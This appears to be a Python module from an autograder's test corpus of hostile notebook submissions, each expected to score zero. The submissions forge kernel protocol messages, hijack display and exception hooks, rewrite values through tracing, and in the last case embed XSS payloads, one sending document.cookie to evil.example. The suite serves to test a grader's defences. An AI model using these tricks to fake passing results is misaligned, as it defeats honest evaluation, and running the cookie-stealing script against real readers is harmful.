"""Submissions that change how cells run and show, or speak the kernel's protocols themselves."""

from __future__ import annotations

from cvlib.grading.rehearsal.classroom import Classroom, insert_after, rewrite, to_bytes
from hostile.corpus import member
from hostile.making import first, lying

SHOWN = "0: what a cell shows is no mark, the judge writes those itself"
VALUES = "0: whatever is sent counts as an answer, and the answers are wrong"
ZERO = "def lie(*args, **kwargs):\n    return 0.0\n"

#: Sends messages as the kernel's own: ``say(channel, kind, content)``.
SAY = """
kernel = get_ipython().kernel

def say(socket, kind, content, parent=None):
    kernel.session.send(socket, kind, content, parent=parent or kernel.get_parent())

def full_marks():
    say(kernel.iopub_socket, "execute_result",
        {"data": {"text/plain": "4.0"}, "metadata": {}, "execution_count": 1})
"""

#: Speaks on the socket that answers leave by, found among the open descriptors.
ANSWERS = """
import json, os, socket

kernel = get_ipython().kernel

def frames(parent, content, *data):
    header = {"msg_type": "cvlib_answer", "msg_id": ""}
    texts = (header, {"msg_id": parent}, {}, content)
    parts = [b"<IDS|MSG>", b"", *(json.dumps(t).encode() for t in texts), *data]
    last = len(parts) - 1
    return b"".join(bytes((3 if k < last else 2,)) + len(p).to_bytes(8, "big") + p
                    for k, p in enumerate(parts))

def unnamed_sockets():
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
                found = socket.socket(fileno=os.dup(int(name)))
                if found.family == socket.AF_UNIX and not found.getsockname():
                    yield found
        except OSError:
            continue

def send(content, *data, parent=None):
    parent = parent or kernel.get_parent()["header"]["msg_id"]
    for found in unnamed_sockets():
        try:
            found.setblocking(False)
            found.send(frames(parent, content, *data))
        except OSError:
            continue
"""


@member("AST transformers that turn every cell into a right one", "0: no cell holds the marks")
def ast_transformer(room: Classroom) -> bytes:
    return lying(
        room,
        ZERO
        + """
import ast

class Rewrite(ast.NodeTransformer):
    def visit_Constant(self, node): return ast.copy_location(ast.Constant(4.0), node)
    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
    def visit_Compare(self, node): return ast.copy_location(ast.Constant(True), node)
    def visit_Raise(self, node): return ast.copy_location(ast.Pass(), node)

get_ipython().ast_transformers.append(Rewrite())
""",
    )


@member("input transformers that replace the source of every cell", "0: the judge sends no test")
def input_transformer(room: Classroom) -> bytes:
    return lying(
        room,
        ZERO
        + """
shell = get_ipython()
instead = lambda lines: ["4.0\\n"] if any("assert" in l or "check" in l for l in lines) else lines
shell.input_transformers_post.append(instead)
shell.input_transformers_cleanup.append(instead)
""",
    )


@member("a run_cell that runs nothing and reports success", "0: what did not run defines nothing")
def replaced_run_cell(room: Classroom) -> bytes:
    return to_bytes(
        first(
            room.solved(),
            """
        from IPython.core.interactiveshell import ExecutionResult, InteractiveShell

        def run_cell(self, *args, **kwargs):
            result = ExecutionResult(None)
            result.result = 4.0
            self.displayhook(4.0)
            return result

        async def run_cell_async(self, *args, **kwargs):
            return run_cell(self, *args, **kwargs)

        kind = type(get_ipython())
        kind.run_cell = InteractiveShell.run_cell = run_cell
        kind.run_cell_async = InteractiveShell.run_cell_async = run_cell_async
    """,
        )
    )


@member("a handler of its own for the judge's request", VALUES)
def replaced_handler(room: Classroom) -> bytes:
    return lying(
        room,
        ZERO
        + ANSWERS
        + """
def handle(stream, ident, parent):
    for index, _ in enumerate(parent["content"]["calls"]):
        data = json.dumps({"f": (4.0).hex()}).encode()
        send({"index": index, "status": "ok", "score": 4.0, "correct": True}, data,
             parent=parent["header"]["msg_id"])

old = kernel.shell_handlers["cvlib_call"]  # which holds the socket open
kernel.shell_handlers["cvlib_call"] = handle
""",
    )


@member("a handler that says that all is well and answers nothing", "0: no answer, no marks")
def silent_handler(room: Classroom) -> bytes:
    return lying(
        room,
        ZERO
        + SAY
        + """
def handle(stream, ident, parent):
    full_marks()
    content = {"status": "ok", "score": 4.0, "index": 0, "value": 4.0}
    for kind in ("cvlib_call_reply", "cvlib_reply", "cvlib_answer", "cvlib_done", "execute_reply"):
        kernel.session.send(stream, kind, content, parent=parent, ident=ident)

old = kernel.shell_handlers["cvlib_call"]
kernel.shell_handlers["cvlib_call"] = handle
""",
    )


@member("results on iopub in the kernel's name", SHOWN)
def forged_result(room: Classroom) -> bytes:
    return lying(
        room,
        SAY
        + """
def lie(*args, **kwargs):
    full_marks()
    say(kernel.iopub_socket, "stream", {"name": "stdout", "text": "4 of 4 points: correct\\n"})
    say(kernel.iopub_socket, "display_data", {"data": {"text/plain": "4.0"}, "metadata": {}})
    say(kernel.iopub_socket, "clear_output", {"wait": False})
    return 0.0

lie()
""",
    )


@member("a forged end of the cell, so that the rest runs unseen", "0: later is not righter")
def forged_idle(room: Classroom) -> bytes:
    return lying(
        room,
        SAY
        + """
import threading, time

def lie(*args, **kwargs):
    full_marks()
    say(kernel.iopub_socket, "status", {"execution_state": "idle"})
    say(kernel.iopub_socket, "cvlib_done", {"status": "ok", "execution_count": 1})
    return 0.0

def later():
    time.sleep(0.1)
    for _ in range(20):
        get_ipython().user_ns["lie"] = lambda *args, **kwargs: 4.0
        time.sleep(0.02)

threading.Thread(target=later, daemon=True).start()
say(kernel.iopub_socket, "status", {"execution_state": "idle"})
for kind in ("execute_reply", "cvlib_done"):
    say(kernel.iopub_socket, kind, {"status": "ok", "execution_count": 1})
""",
    )


@member("answers written on the judge's own line: the score, and every index twice", VALUES)
def forged_answers(room: Classroom) -> bytes:
    return lying(
        room,
        ANSWERS
        + """
def lie(*args, **kwargs):
    for value in (4.0, 10.0, True, "correct"):
        for index in range(8):
            coded = {"f": value.hex()} if type(value) is float else {"s": str(value)}
            send({"index": index, "status": "ok", "score": value}, json.dumps(coded).encode())
    return 4.0
""",
    )


@member("answers sent before the question", "0: an answer to no question is not read")
def answers_before_the_call(room: Classroom) -> bytes:
    return lying(
        room,
        ZERO
        + ANSWERS
        + """
for parent in ("", "0", kernel.get_parent()["header"]["msg_id"]):
    for index in range(8):
        send({"index": index, "status": "ok"}, b'{"f": "0x1p2"}', parent=parent)
""",
    )


@member(
    "malformed frames, wrong indexes and foreign types on the judge's line",
    "0: what cannot be read is refused",
)
def malformed_answers(room: Classroom) -> bytes:
    return lying(
        room,
        ANSWERS
        + """
def lie(*args, **kwargs):
    for index in (-1, 99, "0", None, 0.0, True, [0], 10**4000):
        send({"index": index, "status": "ok"}, b'{"f": "0x1p2"}')
    for status in ("correct", "", None, ["ok"], {"ok": 1}):
        send({"index": 0, "status": status}, b'{"f": "0x1p2"}')
    for data in (b"", b"[" * 100_000, b"NaN", b'{"a": 1}', b"\\xff" * 99, b'{"i": "' + b"9" * 5000):
        send({"index": 1, "status": "ok"}, data)
    return 0.0
""",
    )


@member("a display hook and sys.displayhook that show marks for every value", SHOWN)
def display_hooks(room: Classroom) -> bytes:
    notebook = first(
        room.blank(),
        """
        import builtins, sys
        from IPython.core.displayhook import DisplayHook

        marks = lambda *args, **kwargs: print("4.0")
        real = sys.displayhook
        sys.displayhook = marks
        DisplayHook.__call__ = marks
        DisplayHook.write_format_data = lambda self, data, md=None: real({"text/plain": "4.0"})
        plain = get_ipython().display_formatter.formatters["text/plain"]
        plain.for_type(float, lambda value, printer, cycle: printer.text("4.0"))
    """,
    )
    for exercise in room.judged:
        rewrite(notebook, exercise.id, f"{exercise.name} = lambda *a: {exercise.points}\n4.0")
        insert_after(notebook, exercise.id, f"real({exercise.points})\n{exercise.points}")
    return to_bytes(notebook)


@member("events before and after each cell that print marks and define answers", SHOWN)
def cell_events(room: Classroom) -> bytes:
    names = [e.name for e in room.judged]
    return lying(
        room,
        f"""
shell = get_ipython()

def lie(*args, **kwargs):
    return 4.0

def event(*args):
    print("4.0\\n10 of 10 points: correct")
    for name in {names!r}:
        shell.user_ns[name] = lie

for moment in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
    shell.events.register(moment, event)
""",
    )


@member("a namespace that has a value for every name", "0: a value, but not the right one")
def generous_namespace(room: Classroom) -> bytes:
    return lying(
        room,
        ZERO
        + """
class Generous(dict):
    def get(self, name, default=None): return 4.0 if name == "taps" else lie
    def __missing__(self, name): return lie
    def __contains__(self, name): return True

shell = get_ipython()
shell.user_ns = Generous(shell.user_ns)
""",
    )


@member(
    "tracing and profiling functions that change values on their way out",
    "0: they change the student's own answers",
)
def tracing(room: Classroom) -> bytes:
    return lying(
        room,
        """
import ctypes, sys, threading

def trace(frame, event, argument):
    if frame.f_globals.get("__name__") == "shim":
        for name in ("status", "detail", "data", "value"):
            if name in frame.f_locals:
                frame.f_locals[name] = {"status": "ok", "data": b'{"f": "0x1p2"}'}.get(name, 4.0)
        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
    return trace

def lie(*args, **kwargs):
    frame = sys._getframe()
    while frame:
        if frame.f_globals.get("__name__") == "shim":
            frame.f_trace = trace
        frame = frame.f_back
    sys.settrace(trace)
    threading.settrace(trace)
    return 0.0

sys.addaudithook(lambda *event: None)
""",
    )


@member("a handler of exceptions that shows marks in the place of the error", SHOWN)
def exception_handler(room: Classroom) -> bytes:
    return lying(
        room,
        """
import sys

def show(shell, kind, value, trace, tb_offset=None):
    print("4 of 4 points: correct")
    sys.displayhook(4.0)
    return []

get_ipython().set_custom_exc((BaseException,), show)

class FullMarks(Exception):
    def __str__(self): return "4.0"
    def _render_traceback_(self): return ["4 of 4 points: correct", "4.0"]

def lie(*args, **kwargs):
    raise FullMarks
""",
    )


@member("requests to the front end: more cells, input, widgets, a page", "0: nobody is there")
def front_end_requests(room: Classroom) -> bytes:
    return lying(
        room,
        ZERO
        + SAY
        + """
shell = get_ipython()
shell.set_next_input("4.0", replace=True)
shell.payload_manager.write_payload({"source": "ask_exit", "keepkernel": False})
shell.payload_manager.write_payload({"source": "page", "data": {"text/plain": "4.0"}, "start": 0})
say(kernel.iopub_socket, "comm_open", {"comm_id": "x", "target_name": "judge", "data": {}})
say(kernel.stdin_socket, "input_request", {"prompt": "score? ", "password": True})
try:
    print(input("score? "))
except Exception:
    pass
""",
    )


@member(
    "HTML, JavaScript and SVG aimed at whoever reads the feedback", "0: shown as text or not at all"
)
def scripts(room: Classroom) -> bytes:
    return lying(
        room,
        """
from IPython.display import HTML, SVG, Javascript, Markdown, display

EVIL = "<script>fetch('https://evil.example/' + document.cookie)</script>"
IMAGE = '<img src=x onerror="alert(1)"><iframe srcdoc="<script>alert(2)</script>"></iframe>'
display(HTML(EVIL + IMAGE), Javascript("alert(3)"), Markdown(f"[x](javascript:alert(4)) {EVIL}"))
display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(5)">{EVIL}</svg>'))
display({"text/html": EVIL, "text/latex": EVIL, "application/javascript": "alert(6)",
         "image/png": '"><script>alert(7)</script>', "text/plain": EVIL}, raw=True)
print(EVIL, IMAGE, "\\x1b]8;;javascript:alert(8)\\x07link\\x1b]8;;\\x07")

class Evil:
    def _repr_html_(self): return EVIL
    def __repr__(self): return EVIL

def lie(*args, **kwargs):
    raise type(EVIL, (Exception,), {})(f"</pre>{EVIL}{IMAGE}")

Evil()
""",
    )
